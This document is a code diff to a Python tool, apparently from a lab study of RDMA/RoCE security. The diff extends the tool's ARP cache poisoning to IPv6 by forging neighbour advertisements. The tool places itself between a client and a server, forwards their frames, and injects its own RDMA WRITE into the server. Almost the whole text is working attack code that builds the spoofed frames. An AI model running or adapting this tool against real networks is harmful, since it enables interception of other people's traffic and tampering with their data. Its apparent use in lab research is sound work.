@@ -2,15 +2,17 @@
 
 Usage: between.py DEVICE CLIENT SERVER
 
-CLIENT and SERVER are ADDRESS/MAC. By ARP it tells each of them, again and again, that
-the other one's address is at its own MAC. Nothing in ARP (RFC 826) proves who says so.
-The frames that it gets then, it passes on; and behind the client's first RDMA WRITE it
-sends the server one of its own.
+CLIENT and SERVER are ADDRESS/MAC. By ARP, or for IPv6 by neighbour advertisements, it
+tells each of them, again and again, that the other one's address is at its own MAC.
+Nothing in ARP (RFC 826) proves who says so, and nothing in these (RFC 4861). The frames
+that it gets then, it passes on; and behind the client's first RDMA WRITE it sends the
+server one of its own.
 
 Runs until SIGTERM, on a node of the lab only: see docs/psn_security.md.
 """
 import collections
 import collections.abc
+import ipaddress
 import pathlib
 import select
 import socket
@@ -20,6 +22,11 @@ from lib.arguments import Parser
 from lib.wiretap import parties, roce, switch
 
 ARP, REPLY = 0x0806, 2
+ICMPV6, ADVERTISEMENT = 58, 136
+# "You have asked for it", and "forget what you knew".
+SOLICITED_OVERRIDE = 0x60000000
+# Node c's: who speaks of an address need not have it.
+SPEAKER = socket.inet_pton(socket.AF_INET6, '2001:db8::3')
 AGAIN = 1.0  # seconds; Linux does not change an entry more often
 Host = collections.namedtuple('Host', 'ip mac')
 
@@ -27,12 +34,20 @@ Host = collections.namedtuple('Host', 'ip mac')
 def host(text: str) -> Host:
     """From ADDRESS/MAC."""
     address, _, mac = text.partition('/')
-    return Host(socket.inet_aton(parties.node(address)),
+    return Host(ipaddress.ip_address(parties.node(address)).packed,
                 bytes.fromhex(mac.replace(':', '')))
 
 
 def claim(own: bytes, other: Host, victim: Host) -> bytes:
     """A frame that tells victim: the address of other is at the MAC own."""
+    if len(other.ip) == 16:
+        says = struct.pack('!BBHI16sBB6s', ADVERTISEMENT, 0, 0, SOLICITED_OVERRIDE,
+                           other.ip, 2, 1, own)
+        ends = SPEAKER + victim.ip
+        total = roce.checksum(ends + struct.pack('!II', len(says), ICMPV6) + says)
+        return victim.mac + own + struct.pack(
+            '!HIHBB', 0x86dd, 6 << 28, len(says), ICMPV6, 255) + ends + \
+            says[:2] + struct.pack('!H', total) + says[4:]
     return victim.mac + own + struct.pack(
         '!HHHBBH6s4s6s4s', ARP, 1, 0x0800, 6, 4, REPLY, own, other.ip,
         victim.mac, victim.ip)
@@ -51,8 +66,9 @@ def stand_between(port: socket.socket, own: bytes, client: Host,
         if stop in select.select([stop, port], [], [], AGAIN)[0]:
             return passed, sent
         for frame in waiting(port):
-            ends = frame[26:34]
-            if frame[:6] != own or roce.ethertype(frame) != 0x0800 or \
+            ends, carried = roce.ip_ends(frame)
+            # What they ask each other about their MACs, they had better not get.
+            if frame[:6] != own or not roce.ip_size(frame) or carried == ICMPV6 or \
                     ends not in (client.ip + server.ip, server.ip + client.ip):
                 continue
             passed += 1
@@ -80,7 +96,8 @@ def main() -> None:
                         .read_text().strip().replace(':', ''))
     passed, sent = stand_between(switch.open_port(args.device), own, args.client,
                                  args.server)
-    print(f'passed on: {passed} of ethertype 0x0800')
+    kind = 0x0800 if len(args.client.ip) == 4 else 0x86dd
+    print(f'passed on: {passed} of ethertype 0x{kind:04x}')
     print(f'sent of its own: {sent}')
 
 
